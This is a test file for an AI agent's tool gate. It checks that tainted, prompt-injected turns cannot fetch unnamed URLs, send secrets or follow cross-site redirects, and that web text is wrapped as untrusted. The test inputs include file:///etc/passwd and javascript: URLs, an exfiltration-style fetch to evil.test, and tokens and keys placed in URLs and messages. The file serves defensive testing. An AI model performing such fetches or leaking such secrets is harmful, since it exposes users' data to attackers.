import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { HttpClient } from "../../../src/platform/http-client.ts";
import type { HttpResponse } from "../../../src/platform/http-message.ts";
import { createFakeClock, type FakeClock } from "../../fakes/fake-clock.ts";
import { createToolBench, resultOf, type ToolBench, tainted } from "../../fakes/tool-bench.ts";

let bench: ToolBench;
let clock: FakeClock;
let fetched: string[];
let answer: Partial<HttpResponse> & { text?: string; failure?: Error };

const http: HttpClient = {
  fetch: async (request) => {
    fetched.push(String(request.url));
    const { text = "", failure, ...rest } = answer;
    if (failure) throw failure;
    return {
      status: 200,
      headers: { "content-type": "text/html" },
      url: String(request.url),
      truncated: false,
      body: Buffer.from(text),
      ...rest,
    };
  },
  stream: () => Promise.reject(new Error("not used")),
  fetchFor: () => fetch,
  close: async () => undefined,
};

function open(config: Record<string, unknown> = {}): void {
  clock = createFakeClock();
  fetched = [];
  answer = { text: "<html><title>T</title><nav>menu</nav><h1>Head</h1><p>Text <a href='/next'>more</a></p></html>" };
  bench = createToolBench({ clock, http, config, sandboxPrograms: ["/nonexistent/bwrap"] });
}
beforeEach(() => open());
afterEach(() => bench.close());

describe("every call goes through one gate", () => {
  test("a tool that does not exist, broken JSON and wrong arguments are told to the model", async () => {
    const problem = async (name: string, input: unknown) => resultOf(await bench.call(name, input)).text;
    expect(await problem("rm", {})).toMatch(/There is no tool "rm". Tools of this turn: read, write/);
    expect(await problem("read", "{")).toContain("not valid JSON");
    expect(await problem("read", { path: 7 })).toContain("`path`");
    expect(await problem("read", { path: "a", extra: 1 })).toContain("extra");
    expect(await problem("exec", {})).toContain("either `command` or `task`");
    expect(await problem("read", `{"path":"${"x".repeat(1_000_001)}"}`)).toContain("longer than");
  });

  test("a denied tool is not offered and is refused, each by name", async () => {
    const all = bench.runner.offered(bench.turn()).map(({ name }) => name);
    expect(all.join(" ")).toBe("read write edit exec process web_fetch message remind open session_status");
    await bench.close();
    open({ tools: { profile: "full", ownerProfile: "full", deny: ["*"] } });
    expect(bench.runner.offered(bench.turn())).toEqual([]);
    const inputs: Record<string, unknown> = {
      read: { path: "." },
      write: { path: "a", content: "" },
      exec: { command: "true" },
      process: { action: "list" },
      web_fetch: { url: "https://a.test" },
      message: { message: "x" },
      remind: { text: "x", in: "1 hour" },
      session_status: {},
    };
    for (const [name, input] of Object.entries(inputs)) {
      for (const transport of ["ws", "http"] as const) {
        expect(await bench.call(name, input, { path: { kind: "control", transport } }), name).toMatchObject({
          kind: "denied",
          text: expect.stringContaining("Rule tool."),
        });
      }
    }
    expect([fetched, bench.sent]).toEqual([[], []]);
  });

  test("a step that was started is never run twice", async () => {
    const call = { id: "same", name: "remind", argumentsText: JSON.stringify({ text: "x", in: "1 hour" }) };
    const hooks = { cleanReask: async () => undefined };
    expect(resultOf(await bench.runner.dispatch(call, bench.turn(), hooks)).failed).toBe(false);
    expect(resultOf(await bench.runner.dispatch(call, bench.turn(), hooks)).text).toContain("it is not repeated");
    expect(bench.database.all("SELECT id FROM reminders")).toHaveLength(1);
  });

  test("the clean re-ask decides under the clean label, once", async () => {
    let asked = 0;
    const call = { id: "c", name: "web_fetch", argumentsText: JSON.stringify({ url: "https://a.test/" }) };
    const clean = await bench.runner.dispatch(call, bench.turn({ label: tainted }), {
      cleanReask: async () => {
        asked += 1;
        return { ...tainted, integrity: "owner" };
      },
    });
    expect([clean.kind, asked]).toEqual(["result", 1]);
    const still = await bench.runner.dispatch({ ...call, id: "d" }, bench.turn({ label: tainted }), {
      cleanReask: async () => undefined,
    });
    expect(still.kind).toBe("parked");
  });
});

describe("web_fetch", () => {
  const get = (url: string, options = {}) => bench.call("web_fetch", { url }, options);

  test("returns wrapped, untrusted, public text and its links", async () => {
    const result = resultOf(await get("https://a.test/page#part"));
    expect(result.label).toEqual({ integrity: "untrusted", readers: "public", secret: false, sources: ["web:a.test"] });
    expect(result.text).toMatch(
      /<<<EXTERNAL_UNTRUSTED_CONTENT id="[0-9a-f]{16}">>>\nSource: Web Fetch\nFrom: https:\/\/a.test\/page\nSubject: T\n---\nHead\n+Text more/,
    );
    expect(result.text).not.toContain("menu");
    expect(result.details).toEqual({ url: "https://a.test/page", status: 200, links: ["https://a.test/next"] });
  });

  test.each(["file:///etc/passwd", "ftp://a.test", "https://user:pass@a.test/", "not a url", "javascript:alert(1)"])(
    "never fetches %s",
    async (url) => {
      expect(resultOf(await get(url)).failed).toBe(true);
      expect(fetched).toEqual([]);
    },
  );

  test("under taint a URL nobody named asks; one that a person named does not", async () => {
    expect((await get("https://evil.test/?q=notes", { label: tainted })).kind).toBe("parked");
    expect(fetched).toEqual([]);
    const said = [{ text: "summarise https://site.test/article", at: clock.now() }];
    expect((await get("https://site.test/article", { label: tainted, said })).kind).toBe("result");
    expect((await get("https://evil.test/?q=notes", { label: tainted, said })).kind).toBe("parked");
    expect(fetched).toEqual(["https://site.test/article"]);
  });

  test("the twenty-first fetch under taint asks", async () => {
    const said = [{ text: "https://site.test/", at: clock.now() }];
    expect((await get("https://site.test/", { label: tainted, said, fetches: 19 })).kind).toBe("result");
    expect((await get("https://site.test/", { label: tainted, said, fetches: 20 })).kind).toBe("parked");
  });

  test("a secret in the URL is denied, in every spelling, even to the owner", async () => {
    for (const secret of ["token-of-the-test-gateway-0123456789", "token%2Dof-the-test-gateway-0123456789"]) {
      expect(await get(`https://a.test/?t=${secret}`)).toMatchObject({
        kind: "denied",
        decision: { reason: "flow.egress_secret" },
      });
    }
    expect(fetched).toEqual([]);
  });

  test("a redirect to another site stops under taint and is shown", async () => {
    answer = { status: 302, headers: { location: "https://evil.test/x" } };
    const said = [{ text: "https://site.test/", at: clock.now() }];
    const shown = resultOf(await get("https://site.test/", { label: tainted, said }));
    expect(shown.text).toContain("redirects to another site:\nhttps://evil.test/x");
  });

  test("why a fetch failed is told in the site's words, and labelled as them", async () => {
    answer = { failure: new Error("http://obey-the-page.evil.test is not on the public internet") };
    const result = resultOf(await get("https://evil.test/"));
    expect(result).toMatchObject({ failed: true, text: expect.stringContaining("obey-the-page") });
    expect(result.label).toMatchObject({ integrity: "untrusted", sources: ["web:evil.test"] });
  });

  test("a page is cached for its time, a failure is not; length is bounded", async () => {
    await get("https://a.test/");
    await get("https://a.test/");
    clock.advance(15 * 60_000 + 1);
    await get("https://a.test/");
    expect(fetched).toHaveLength(2);
    answer = { text: "x".repeat(100_000), headers: { "content-type": "text/plain" }, status: 404 };
    const missing = resultOf(await get("https://a.test/404"));
    expect([missing.failed, missing.text.length < 52_000, missing.text.includes("HTTP status 404")]).toEqual([
      true,
      true,
      true,
    ]);
    await get("https://a.test/404");
    expect(fetched).toHaveLength(4);
  });

  test("what is not text is not shown", async () => {
    answer = { body: Buffer.from([0, 1, 2]), headers: { "content-type": "image/png" } };
    expect(resultOf(await get("https://a.test/x.png")).text).toContain("is not text");
  });
});

describe("message", () => {
  test("to this conversation is free, to others asks below the owner's integrity", async () => {
    expect(resultOf(await bench.call("message", { message: "working on it" })).failed).toBe(false);
    expect(bench.sent.map(({ text, target }) => [text, target.chat])).toEqual([["working on it", "main"]]);
    const toAna = { message: "hello", channel: "webchat", target: "ana" };
    const parked = await bench.call("message", toAna, { label: tainted });
    expect(parked.kind).toBe("parked");
    expect(bench.approvals.list()[0]?.card.exactly).toEqual([
      { label: "To", text: "webchat (default) ana", mono: true },
      { label: "Text", text: "hello", mono: false },
    ]);
    await bench.approve(parked, { label: tainted });
    expect(bench.sent.at(-1)).toMatchObject({ text: "hello", label: tainted });
  });

  test("with a secret goes to nobody else", async () => {
    const outcome = await bench.call("message", {
      message: `key sk-${"a1B2".repeat(6)}`,
      channel: "webchat",
      target: "ana",
    });
    expect(outcome).toMatchObject({ kind: "denied", decision: { reason: "flow.send_secret" } });
    expect(bench.sent).toEqual([]);
  });

  test("to a chat that does not exist is told", async () => {
    expect(resultOf(await bench.call("message", { message: "x", channel: "nowhere", target: "y" }))).toMatchObject({
      failed: true,
    });
  });
});

describe("remind", () => {
  test("delivers once, at its time, with its label", async () => {
    const result = resultOf(await bench.call("remind", { text: "bread", in: "20 minutes" }, { label: tainted }));
    expect(result.text).toContain("Reminder set for");
    clock.advance(19 * 60_000);
    expect(bench.reminded).toEqual([]);
    clock.advance(60_000);
    await expect.poll(() => bench.reminded.length).toBe(1);
    expect(bench.reminded[0]).toMatchObject({
      late: false,
      reminder: { text: "bread", label: tainted, target: { chat: "main" } },
    });
    clock.advance(24 * 60 * 60_000);
    expect(bench.reminded).toHaveLength(1);
  });

  test.each([
    { text: "x" },
    { text: "x", at: "yesterday" },
    { text: "x", at: "tomorrow", in: "1 hour" },
    { text: "", in: "1 hour" },
  ])("%j is refused", async (input) => {
    expect(resultOf(await bench.call("remind", input)).failed).toBe(true);
    expect(bench.database.all("SELECT id FROM reminders")).toEqual([]);
  });
});

describe("open and session_status", () => {
  test("a source comes back with its label; an unknown handle does not", async () => {
    bench.sources.set("h_1", { text: "page", label: tainted });
    expect(resultOf(await bench.call("open", { handle: "h_1" }))).toMatchObject({ text: "page", label: tainted });
    expect(resultOf(await bench.call("open", { handle: "h_2" })).failed).toBe(true);
  });

  test("the status says why there is no sandbox and what helps", async () => {
    await bench.sandbox.probe();
    expect(resultOf(await bench.call("session_status", {})).text).toContain(
      "apt-get install -y --no-install-recommends bubblewrap",
    );
  });
});

test("the recipes of the attack corpus for these tools are covered", () => {
  const covered = new Set(Object.keys(coveredRecipes).map(Number));
  const recipes = readFileSync(new URL("../../fixtures/tool-attacks.jsonl", import.meta.url), "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { n: number });
  expect(recipes.length).toBeGreaterThan(5);
  expect(recipes.filter(({ n }) => !covered.has(n))).toEqual([]);
});

/** Recipe → where it is tried. */
const coveredRecipes: Record<number, string> = {
  106: "canonical-call.test.ts: a command is opaque, bound by its exact bytes",
  116: "exec.test.ts: folder and its inode are part of the canonical call",
  117: "exec.test.ts: a script that changes after the approval does not run",
  118: "canonical-call.test.ts: every field is hashed",
  119: "approvals.test.ts: is denied when nobody answers in a day",
  128: "approvals.test.ts: who may decide",
  138: "exec.test.ts: finds a constructed environment",
  159: "files.test.ts: nothing outside the workspace is reached",
  169: "exec.test.ts: a fake executor on the host",
  170: "exec.test.ts: a fake executor on the host",
  219: "dispatch.test.ts: a denied tool is not offered and is refused",
};
